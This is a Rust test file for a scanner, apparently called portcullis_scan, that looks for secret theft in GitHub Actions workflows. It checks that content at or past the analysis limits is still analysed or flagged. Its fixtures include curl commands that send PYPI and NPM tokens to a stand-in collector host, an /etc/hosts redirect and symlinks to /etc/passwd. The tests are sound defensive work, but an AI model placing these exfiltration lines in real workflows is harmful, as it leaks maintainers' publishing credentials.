//! Bounds are not a hiding place: what lies at a limit is analysed, and one past it is a problem that names the limit,
//! with a finding for what was left unanalysed.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

mod repository;

use portcullis_scan::report::{Document, Verdict};
use portcullis_scan::{Options, scan};
use repository::Repository;

const WORKFLOW: &str = ".github/workflows/w.yml";
const THEFT: &str =
    "curl -d 'A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}' https://collector.example/in";
const HANDED: &str = "env:\n  A: ${{ secrets.PYPI_API_TOKEN }}\n  B: ${{ secrets.NPM_TOKEN }}\n";
const SEND: &str = "curl -d \"$A$B\" https://collector.example/in\n";

fn scanned(repository: &Repository) -> Document {
    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() }).document
}

/// The document of one workflow beside other files, committed; and the same read from the work tree alone.
fn documents(workflow: &str, others: &[(&str, &[u8])]) -> [Document; 2] {
    let repository = Repository::new();
    repository.write(WORKFLOW, workflow);
    for (path, bytes) in others {
        repository.write_bytes(path, bytes);
    }
    let unborn = scanned(&repository);
    repository.commit("x");
    for path in others.iter().map(|(path, _)| *path).chain([WORKFLOW]) {
        repository.remove(path);
    }
    [unborn, scanned(&repository)]
}

#[track_caller]
fn is_analysed(workflow: &str, others: &[(&str, &[u8])]) {
    for document in documents(workflow, others) {
        let malicious = document.findings.iter().filter(|one| one.verdict == Verdict::Malicious).count();
        assert_eq!((malicious, document.complete), (1, true), "{:?}", document.problems);
        assert!(document.problems.is_empty(), "{:?}", document.problems);
    }
}

/// Something is left out: that is a problem, and a finding that a person must look at.
#[track_caller]
fn is_not_hidden(workflow: &str, others: &[(&str, &[u8])]) {
    for document in documents(workflow, others) {
        let seen: Vec<_> = document.findings.iter().map(|one| (one.rule.as_str(), one.verdict)).collect();
        assert!(seen.contains(&("unanalysed-workflow", Verdict::Suspicious)), "{seen:?}");
        assert!(!document.complete);
        let kinds: Vec<_> = document.problems.iter().map(|problem| problem.kind.as_str()).collect();
        assert_eq!(kinds, ["over-limit"], "{:?}", document.problems);
    }
}

fn with_jobs(before: usize) -> String {
    let job =
        |name: String, run: &str| format!("  {name}:\n    runs-on: x\n    steps:\n      - run: {run}\n");
    let jobs: String = (0..before).map(|at| job(format!("j{at}"), "make")).collect();
    format!("on: push\njobs:\n{jobs}{}", job("z".to_owned(), THEFT))
}

#[test]
fn jobs() {
    is_analysed(&with_jobs(255), &[]);
    is_not_hidden(&with_jobs(256), &[]);
}

fn steps(before: usize) -> String {
    format!("    steps:\n{}      - run: {THEFT}\n", "      - run: make\n".repeat(before))
}

#[test]
fn steps_of_a_job() {
    let workflow = |before| format!("on: push\njobs:\n  j:\n    runs-on: x\n{}", steps(before));
    is_analysed(&workflow(999), &[]);
    is_not_hidden(&workflow(1_000), &[]);
}

#[test]
fn steps_of_a_local_action() {
    let workflow = "on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - uses: ./act\n        with:\n          a: ${{ secrets.PYPI_API_TOKEN }}${{ secrets.NPM_TOKEN }}\n";
    let action = |before: usize| {
        let send = "curl -d '${{ inputs.a }}' https://collector.example/in";
        format!(
            "name: x\ninputs:\n  a:\n    default: ''\nruns:\n  using: composite\n  steps:\n{}    - run: {send}\n      shell: bash\n",
            "    - run: make\n      shell: bash\n".repeat(before)
        )
    };
    let seen = |before| documents(workflow, &[("act/action.yml", action(before).as_bytes())]);
    for document in seen(999) {
        assert!(document.complete, "{:?}", document.problems);
        assert!(document.findings.iter().any(|one| one.verdict == Verdict::Malicious));
    }
    for document in seen(1_000) {
        assert!(!document.complete);
        let noticed = document
            .findings
            .iter()
            .any(|one| one.path.unescaped() == WORKFLOW && one.rule == "unanalysed-workflow");
        assert!(noticed, "{:?}", document.findings);
    }
}

fn calls(command: &str) -> String {
    format!("on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - run: {command}\n")
}

/// What a script may have that is read and followed; git's limit for a file that is called is larger.
const SCRIPT_MAX: usize = 256 * 1024;

#[test]
fn a_script_of_the_repository() {
    let workflow = format!("{HANDED}{}", calls("bash send.sh"));
    let script = |size: usize| {
        let mut text = String::new();
        while text.len() + 64 + SEND.len() < size {
            text.push_str("# a line of 64 characters, with the line break at its end ......\n");
        }
        let left = size - text.len() - SEND.len() - 2;
        format!("{text}#{}\n{SEND}", ".".repeat(left))
    };
    assert_eq!(script(SCRIPT_MAX).len(), SCRIPT_MAX);
    is_analysed(&workflow, &[("send.sh", script(SCRIPT_MAX).as_bytes())]);
    is_not_hidden(&workflow, &[("send.sh", script(SCRIPT_MAX + 1).as_bytes())]);
}

#[test]
fn a_called_file_that_is_too_large_to_be_read() {
    let workflow = format!("{HANDED}{}", calls("bash send.sh"));
    // What it calls is not there to be searched, so it may send whatever it is given.
    for size in [1024 * 1024 + 1, 16 * 1024 * 1024 + 1] {
        let mut script = SEND.as_bytes().to_vec();
        script.resize(size, b'\n');
        for document in documents(&workflow, &[("send.sh", &script)]) {
            assert!(!document.complete);
            let seen: Vec<_> = document.findings.iter().map(|one| (one.rule.as_str(), one.verdict)).collect();
            assert!(seen.contains(&("unanalysed-workflow", Verdict::Suspicious)), "{seen:?}");
            assert!(
                document
                    .problems
                    .iter()
                    .any(|problem| problem.what.contains("a file that it calls is too large"))
            );
        }
    }
}

#[test]
fn a_script_that_is_not_utf8_is_followed() {
    let workflow = format!("{HANDED}{}", calls("bash send.sh"));
    is_analysed(&workflow, &[("send.sh", [b"# \xff\n", SEND.as_bytes()].concat().as_slice())]);
}

#[test]
fn a_loop_over_many_words() {
    let workflow = |words: usize| {
        let names: String = (0..words - 1).map(|at| format!("none{at} ")).collect();
        format!(
            "{HANDED}{}",
            calls(&format!(
                "|\n          for n in {names}A; do curl -d \"${{!n}}$B\" https://collector.example/in; done"
            ))
        )
    };
    is_analysed(&workflow(256), &[]);
    is_not_hidden(&workflow(257), &[]);
}

/// In the object database a link is text, and a runner follows it.
#[test]
fn a_script_behind_links() {
    use std::os::unix::fs::symlink;
    for (hops, followed) in [(1, true), (8, true), (9, false)] {
        let repository = Repository::new();
        repository.write(WORKFLOW, &format!("{HANDED}{}", calls("bash scripts/link0")));
        repository.write("real/send.sh", SEND);
        repository.write("scripts/keep", "");
        for hop in 0..hops {
            let target =
                if hop + 1 == hops { "../real/send.sh".to_owned() } else { format!("link{}", hop + 1) };
            symlink(target, repository.path().join(format!("scripts/link{hop}"))).unwrap();
        }
        repository.commit("x");
        repository.git(&["rm", "-q", "-r", "--ignore-unmatch", ".github"]);
        let document = scanned(&repository);
        let malicious = document.findings.iter().any(|one| one.verdict == Verdict::Malicious);
        let unanalysed = document.findings.iter().any(|one| one.rule == "unanalysed-workflow");
        assert_eq!((malicious, unanalysed), (followed, !followed), "{hops} {:?}", document.problems);
    }
}

#[test]
fn links_that_lead_out_of_the_repository_or_in_a_circle() {
    use std::os::unix::fs::symlink;
    for target in ["/bin/sh", "../../../etc/passwd", "link"] {
        let repository = Repository::new();
        repository.write(WORKFLOW, &format!("{HANDED}{}", calls("bash link")));
        symlink(target, repository.path().join("link")).unwrap();
        // Once from the work tree, once from the objects alone.
        for _ in 0..2 {
            let document = scanned(&repository);
            assert!(document.findings.iter().any(|one| one.rule == "unanalysed-workflow"), "{target}");
            assert!(document.problems.iter().any(|problem| problem.what.contains("link")), "{target}");
            repository.commit("x");
            repository.git(&["rm", "-q", "-r", "--ignore-unmatch", ".github"]);
        }
    }
}

/// What lies beside the repository is nothing that it hides; its own folder is one of those beside it.
#[test]
fn a_path_beside_the_repository_is_no_link() {
    for (path, own) in [("../beside.sh", false), ("../checkout/send.sh", true)] {
        let repository = Repository::new();
        repository.write("send.sh", "curl -d \"$A$B\" https://collector.example/in\n");
        repository.write(WORKFLOW, &format!("{HANDED}{}", calls(&format!("bash {path}"))));
        // Once from the work tree, once from the objects alone.
        for _ in 0..2 {
            let document = scanned(&repository);
            assert!(document.problems.is_empty(), "{:?}", document.problems);
            let found = document.findings.iter().any(|one| one.verdict == Verdict::Malicious);
            assert_eq!(found, own, "{path}");
            repository.commit("x");
            repository.git(&["rm", "-q", "-r", "--ignore-unmatch", ".github"]);
        }
    }
}

#[test]
fn a_called_script_that_is_missing_or_broken_among_the_objects() {
    let repository = Repository::new();
    repository.write(WORKFLOW, &format!("{HANDED}{}", calls("bash send.sh")));
    repository.write("send.sh", SEND);
    repository.commit("x");
    let blob = repository.git(&["rev-parse", "HEAD:send.sh"]).trim().to_owned();
    let (folder, name) = blob.split_at(2);
    let object = repository.path().join(".git/objects").join(folder).join(name);
    repository.git(&["rm", "-q", "-r", ".github"]);
    repository.remove("send.sh");
    std::fs::remove_file(&object).unwrap();
    for word in ["not in the repository's objects", "broken"] {
        let document = scanned(&repository);
        assert!(document.findings.iter().any(|one| one.rule == "unanalysed-workflow"));
        assert!(
            document.problems.iter().any(|problem| problem.what.contains(word)),
            "{:?}",
            document.problems
        );
        std::fs::write(&object, b"no zlib").unwrap();
    }
}

#[test]
fn an_action_or_called_workflow_that_cannot_be_parsed() {
    for (path, workflow) in [
        (
            "act/action.yml",
            format!("{HANDED}on: push\njobs:\n  j:\n    runs-on: x\n    steps:\n      - uses: ./act\n"),
        ),
        (
            ".github/workflows/c.yml",
            "on: push\njobs:\n  j:\n    uses: ./.github/workflows/c.yml\n    secrets: inherit\n".to_owned(),
        ),
    ] {
        for document in documents(&workflow, &[(path, b"a: [\n")]) {
            assert!(
                document
                    .findings
                    .iter()
                    .any(|one| { one.path.unescaped() == WORKFLOW && one.rule == "unanalysed-workflow" }),
                "{path}"
            );
        }
    }
}

#[test]
fn things_that_a_command_runs_for() {
    let workflow = |lines: usize| {
        let names: String = (0..lines - 1).map(|at| format!("127.0.0.{at}\\n")).collect();
        let run = format!("printf '{names}collector.example\\n' | xargs -I% curl -d \"$A$B\" https://%/in");
        format!("{HANDED}{}", calls(&run))
    };
    is_analysed(&workflow(256), &[]);
    is_not_hidden(&workflow(257), &[]);
}

#[test]
fn words_of_braces() {
    let workflow = |words: usize| {
        let run = format!("for n in {{1..{words}}}; do true; done; {}", SEND.trim_end());
        format!("{HANDED}{}", calls(&format!("|\n          {run}")))
    };
    is_analysed(&workflow(255), &[]);
    is_not_hidden(&workflow(2_000), &[]);
}

#[test]
fn files_that_a_job_writes() {
    let workflow = |files: usize| {
        let writes: String = (0..files).map(|at| format!("          : > f{at}\n")).collect();
        let send = "          echo \"$A$B\" > last\n          curl -T last https://collector.example/in\n";
        format!("{HANDED}{}", calls(&format!("|\n{writes}{send}")))
    };
    is_analysed(&workflow(4_095), &[]);
    is_not_hidden(&workflow(4_096), &[]);
}

/// However a file is spelled, it is the same file; and a line of hosts may have many names.
#[test]
fn other_spellings_of_a_path_and_many_names_of_a_host() {
    for send in [
        "echo \"$A$B\" > f; curl -T ././f https://collector.example/in",
        "echo \"$A$B\" > f; curl -T x/../f https://collector.example/in",
        "mkdir a; echo \"$A$B\" > a/f; curl -T a//f https://collector.example/in",
        "echo '192.0.2.9 a b c d e f g h upload.pypi.org' | sudo tee -a /etc/hosts; curl -d \"$A$B\" https://upload.pypi.org/",
    ] {
        is_analysed(&format!("{HANDED}{}", calls(&format!("|\n          {send}"))), &[]);
    }
}

/// The targets that one call of `make` leads to, and tools that run each other.
#[test]
fn what_a_makefile_leads_to() {
    let makefile = |targets: usize| {
        let chain: String = (1..targets).map(|at| format!("t{at}: t{}\n", at + 1)).collect();
        format!("{chain}t{targets}:\n\tcurl -d \"$$TOKEN\" https://collector.example/\n")
    };
    let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {TOKEN: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: make\n";
    is_analysed(workflow, &[("Makefile", makefile(256).as_bytes())]);
    is_not_hidden(workflow, &[("Makefile", makefile(257).as_bytes())]);
    let nested = |depth: usize| -> Vec<(String, String)> {
        let call = |at: usize| format!("all:\n\tmake -f {}.mk\n", at + 1);
        let mut files: Vec<_> = (0..depth).map(|at| (format!("{at}.mk"), call(at))).collect();
        let last = "all:\n\tcurl -d \"$$TOKEN\" https://collector.example/\n";
        files.push((format!("{depth}.mk"), last.to_owned()));
        files
    };
    let workflow = workflow.replace("run: make", "run: make -f 0.mk");
    for (depth, is_followed) in [(2, true), (40, false)] {
        let files = nested(depth);
        let files: Vec<(&str, &[u8])> =
            files.iter().map(|(path, text)| (path.as_str(), text.as_bytes())).collect();
        if is_followed { is_analysed(&workflow, &files) } else { is_not_hidden(&workflow, &files) }
    }
}
